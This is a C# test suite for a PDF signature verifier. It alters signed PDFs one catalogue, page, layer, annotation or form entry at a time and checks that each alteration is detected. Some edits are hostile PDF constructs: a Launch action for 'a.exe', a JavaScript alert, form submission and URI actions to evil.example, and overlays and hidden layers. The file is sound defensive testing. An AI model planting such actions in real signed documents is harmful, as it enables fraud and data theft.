using System.Globalization;
using AnTin.Signatures.Reports;
using static AnTin.Signatures.Tests.Attacks.LaterLooksDocument;

namespace AnTin.Signatures.Tests.Attacks;

/// <summary>
/// What the catalogue, the page tree, layers and actions say, changed after the signature: one entry at a time. What the
/// signer had is prepared in full, so that each can be changed, taken away or added to.
/// </summary>
public sealed class CatalogueAttackTests(AuthorityFixture fixture) : IClassFixture<AuthorityFixture>
{
    private const string Entries =
        "/PageLayout /SinglePage /PageMode /UseNone /Lang (vi) /PageLabels << /Nums [0 << /S /D >>] >> "
        + "/ViewerPreferences << /HideMenubar false >> /Outlines 61 0 R /URI << /Base (http://one.example/) >> /Threads [] "
        + "/Dests << /D1 [3 0 R /Fit] >> /Requirements [] /PieceInfo << /X << /Private 1 >> >> /OutputIntents [] "
        + "/Names << /Dests << /Names [(d) [3 0 R /Fit]] >> /EmbeddedFiles << /Names [] >> >> "
        + "/OCProperties 62 0 R /Collection << /View /H >> /AF [] /SpiderInfo << /V 1 >> /NeedsRendering false ";

    private const string Layers =
        "<< /OCGs [63 0 R 64 0 R] /D << /BaseState /ON /ON [63 0 R] /OFF [64 0 R] /AS [] /Order [] /Locked [] /RBGroups [] >> /Configs [] >>";

    private const string PageEntries =
        "/Rotate 0 /UserUnit 1 /Dur 9 /Group << /S /Transparency >> /Trans << /S /R >> /AF [] /B [] /Thumb 69 0 R /PZ 1 "
        + "/CropBox [0 0 595 842] /TrimBox [0 0 595 842] /BoxColorInfo << >> /VP [] ";

    /// <summary>Number of the object, what stands there, what takes its place.</summary>
    private static readonly (int Number, string Old, string Now)[] Edits =
    [
        (1, "/PageLayout /SinglePage", "/PageLayout /TwoColumnRight"),
        (1, "/PageMode /UseNone", "/PageMode /FullScreen"),
        (1, @"/Lang \(vi\)", "/Lang (en)"),
        (1, "/S /D", "/S /r"),
        (1, "/HideMenubar false", "/HideMenubar true /HideToolbar true"),
        (1, @"/Base \(http://one", "/Base (http://evil"),
        (1, @"/Threads \[\]", "/Threads [<< /F 70 0 R >>]"),
        (1, @"/D1 \[3 0 R", "/D1 [4 0 R"),
        (1, @"\(d\) \[3 0 R", "(d) [4 0 R"),
        (1, @"/Requirements \[\]", "/Requirements [<< /S /EnableJavaScripts >>]"),
        (1, "/Private 1", "/Private 2"),
        (1, @"/OutputIntents \[\]", "/OutputIntents [<< /S /GTS_PDFX >>]"),
        (1, @"/EmbeddedFiles << /Names \[\]", "/EmbeddedFiles << /Names [(a) 70 0 R]"),
        (1, "/Names << /Dests", "/Names << /JavaScript << /Names [(a) 65 0 R] >> /Dests"),
        (1, "/Names << /Dests", "/Names << /Pages << /Names [(a) 3 0 R] >> /Dests"),
        (1, "/Names << /Dests", "/Names << /AP << /Names [(a) 18 0 R] >> /Dests"),
        (1, "/View /H", "/View /D"),
        (1, "/Collection << /View /H >>", ""),
        (1, @"/AF \[\]", "/AF [70 0 R]"),
        (1, "/SpiderInfo << /V 1 >>", "/SpiderInfo << /V 2 >>"),
        (1, "/NeedsRendering false", "/NeedsRendering true"),
        (1, "/NeedsRendering false", "/NeedsRendering false /Legal << /JavaScriptActions 1 >>"),
        (1, "/NeedsRendering false", "/NeedsRendering false /DPartRoot << >>"),
        (1, "/NeedsRendering false", "/NeedsRendering false /OpenAction [4 0 R /Fit]"),
        (1, "/NeedsRendering false", "/NeedsRendering false /AA << /WP 65 0 R >>"),
        (
            1,
            "/NeedsRendering false",
            "/NeedsRendering false /OpenAction << /S /Launch /F (a.exe) >>"
        ),
        (1, "/NeedsRendering false", "/NeedsRendering false /OpenAction << /S /GoToE /T << >> >>"),
        (
            1,
            "/NeedsRendering false",
            "/NeedsRendering false /OpenAction << /S /SetOCGState /State [/OFF 63 0 R] >>"
        ),
        (1, "/NeedsRendering false", "/NeedsRendering false /Perms << /DocMDP 70 0 R >>"),
        (1, @"/AcroForm <<", "/AcroForm << /XFA [(a) 70 0 R]"),
        (1, @"/AcroForm <<", "/AcroForm << /Q 1"),
        (1, @"/AcroForm <<", "/AcroForm << /CO [7 0 R]"),
        (1, @"/AcroForm <<", "/AcroForm << /NeedAppearances true"),
        (1, @"/DA \(/Helv 0 Tf 0 g\)", "/DA (/Helv 0 Tf 1 g)"),
        (1, "/F1 6 0 R", "/F1 38 0 R"),
        (61, "/Count 0", "/Count 1 /First 66 0 R"),
        (62, "/BaseState /ON", "/BaseState /OFF"),
        (62, @"/OFF \[64 0 R\]", "/OFF []"),
        (62, @"/ON \[63 0 R\]", "/ON [64 0 R]"),
        (62, @"/AS \[\]", "/AS [<< /Event /View /OCGs [63 0 R] /Category [/View] >>]"),
        (62, @"/Configs \[\]", "/Configs [<< /Name (x) /BaseState /OFF >>]"),
        (62, @"/Order \[\]", "/Order [63 0 R]"),
        (62, @"/Locked \[\]", "/Locked [63 0 R]"),
        (62, @"/RBGroups \[\]", "/RBGroups [[63 0 R 64 0 R]]"),
        (62, @"/OCGs \[63 0 R 64 0 R\]", "/OCGs [63 0 R]"),
        (63, @"/Name \(seen\)", "/Name (seen) /Usage << /Print << /PrintState /OFF >> >>"),
        (63, "/Intent /View", "/Intent /Design"),
        (67, "/P /AllOn", "/P /AnyOff"),
        (67, @"/OCGs \[63 0 R\]", "/OCGs [64 0 R]"),
        (67, "/P /AllOn", "/P /AllOn /VE [/Not 63 0 R]"),
        (2, "/Count 2", "/Count 2 /Rotate 180"),
        (2, "/Count 2", "/Count 2 /UserUnit 9"),
        (2, "/Count 2", "/Count 2 /Resources << /Font << /F1 38 0 R >> >>"),
        (2, "/Count 2", "/Count 2 /CropBox [0 0 595 400]"),
        (2, "/Count 2", "/Count 1"),
        (2, "0 0 595 842", "0 400 595 842"),
        (3, "/Rotate 0", "/Rotate 180"),
        (3, "/Rotate 0", ""),
        (3, "/UserUnit 1", "/UserUnit 10"),
        (3, "/Dur 9", "/Dur 1"),
        (3, "/S /Transparency", "/S /Transparency /I true /K true"),
        (3, "/Trans << /S /R >>", "/Trans << /S /Split >>"),
        (3, @"/CropBox \[0 0", "/CropBox [0 300"),
        (3, @"/TrimBox \[0 0", "/TrimBox [0 300"),
        (3, @"/VP \[\]", "/VP [<< /BBox [0 0 9 9] >>]"),
        (3, @"/AF \[\]", "/AF [70 0 R]"),
        (3, @"/B \[\]", "/B [70 0 R]"),
        (3, "/PZ 1", "/PZ 2"),
        (3, "/PZ 1", "/PZ 1 /AA << /O 65 0 R >>"),
        (3, "/PZ 1", "/PZ 1 /Metadata 70 0 R"),
        (3, "/PZ 1", "/PZ 1 /PresSteps << >>"),
        (3, "/L1 67 0 R", "/L1 64 0 R"),
        (3, @"/Annots \[", "/Annots [68 0 R "),
        (
            3,
            @"/Annots \[",
            "/Annots [<< /Subtype /Popup /Parent 17 0 R /Open true /Rect [0 0 500 800] >> "
        ),
        (
            3,
            @"/Annots \[",
            "/Annots [<< /Subtype /Watermark /FixedPrint << >> /Rect [0 0 500 800] >> "
        ),
        (3, @"/Annots \[", "/Annots [<< /Subtype /PrinterMark /Rect [0 0 500 800] >> "),
        (3, @"/Annots \[", "/Annots [<< /Subtype /Screen /Rect [0 0 500 800] >> "),
        (69, @"/Width 1", "/Width 2"),
        (7, @"/T \(Number\)", "/T (Number) /MaxLen 1"),
        (7, @"/T \(Number\)", "/T (Number) /TU (Amount)"),
        (7, @"/T \(Number\)", "/T (Number) /TM (Amount)"),
        (7, @"/T \(Number\)", "/T (Number) /Q 2"),
        (7, @"/T \(Number\)", "/T (Number) /DV (9)"),
        (7, @"/T \(Number\)", "/T (Number) /Ff 2"),
        (7, @"/T \(Number\)", "/T (Number) /MK << /R 180 >>"),
        (7, @"/T \(Number\)", "/T (Number) /AA << /K 65 0 R >>"),
        (7, @"/T \(Number\)", "/T (Number) /A << /S /SubmitForm /F (http://evil.example) >>"),
        (7, @"/T \(Number\)", "/T (Number) /OC 64 0 R"),
        (7, @"/T \(Number\)", "/T (Number) /Border [0 0 40]"),
        (10, @"\(one\)", "(nine)"),
        (10, "/Rect", "/TI 1 /Rect"),
        (17, "/F 4", "/F 2"),
        (17, "/F 4", "/F 4 /OC 64 0 R"),
        (17, "/F 4", "/F 4 /AS /Off"),
        (17, "/F 4", "/F 4 /A << /S /URI /URI (http://evil.example) >>"),
        (17, "/F 4", "/F 4 /IRT 33 0 R /RT /Group"),
        (17, "/F 4", "/F 4 /CA 0"),
        (17, @"\(20 xe\)", "(90 xe)"),
        (8, "/F 132", "/F 134"),
        (8, @"\[350 100 500 180\]", "[50 700 200 780]"),
        (8, @"\[350 100 500 180\]", "[0 0 0 0]"),
        (8, @"/F 132", "/F 132 /OC 64 0 R"),
        (8, @"/F 132", "/F 132 /A << /S /Launch /F (a) >>"),
        (8, @"/F 132", "/F 132 /AP << /N 18 0 R >>"),
        (8, @"/F 132", "/F 132 /MK << /BG [1 1 1] >>"),
        (8, @"/F 132", "/F 132 /SV << /Ff 1 >>"),
        (8, @"/F 132", "/F 132 /Lock << /Action /All >>"),
        (8, @"/F 132", "/F 132 /TU (Other)"),
    ];

    public static TheoryData<int> Numbers() => [.. Enumerable.Range(0, Edits.Length)];

    [Theory]
    [MemberData(nameof(Numbers))]
    public async Task Entry_ChangedAfterTheSignature_IsNamed(int number)
    {
        var (place, old, now) = Edits[number];

        var signature = await CheckAsync(edit => edit.Change(place, old, now));

        signature.Changes.ShouldNotBeEmpty(
            string.Create(CultureInfo.InvariantCulture, $"{place}: {old} → {now}")
        );
        signature.Clean.ShouldBeFalse();
    }

    [Fact]
    public async Task Document_WithAllOfIt_StaysCleanWhenWrittenAgain()
    {
        var signature = await CheckAsync(edit =>
            edit.Fill(62, "").Fill(63, "").Fill(2, "").Fill(61, "")
        );

        signature.Changes.ShouldBeEmpty();
        signature.Clean.ShouldBeTrue();
    }

    private static byte[] Bytes() =>
        new TextEdit(LaterSignatureDocument.Bytes())
            .Fill(1, Entries)
            .Fill(Page, PageEntries)
            .Change(Page, "/Resources <<", "/Resources << /Properties << /L1 67 0 R >>")
            .Set(61, "<< /Type /Outlines /Count 0 >>")
            .Set(62, Layers)
            .Set(63, "<< /Type /OCG /Name (seen) /Intent /View >>")
            .Set(64, "<< /Type /OCG /Name (not seen) >>")
            .Set(65, "<< /S /JavaScript /JS (app.alert\\(1\\)) >>")
            .Set(66, "<< /Title (evil) /Parent 61 0 R >>")
            .Set(67, "<< /Type /OCMD /OCGs [63 0 R] /P /AllOn >>")
            .Set(68, "<< /Type /Annot /Subtype /Link /Rect [60 740 400 790] /Dest [4 0 R /Fit] >>")
            .Set(
                69,
                RawUpdate.Stream(
                    "x",
                    "/Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray"
                )
            )
            .Set(70, "<< /Spare 1 >>")
            .ToFile();

    private async Task<SignatureReport> CheckAsync(Func<TextEdit, TextEdit> apply)
    {
        var signed = await fixture.Authority.SignAsync(
            Bytes(),
            change: options => options with { Field = "Leader" }
        );
        var report = await fixture.Authority.CheckAsync(apply(new TextEdit(signed)).ToFile());
        return report.Signatures.ShouldHaveSingleItem();
    }
}
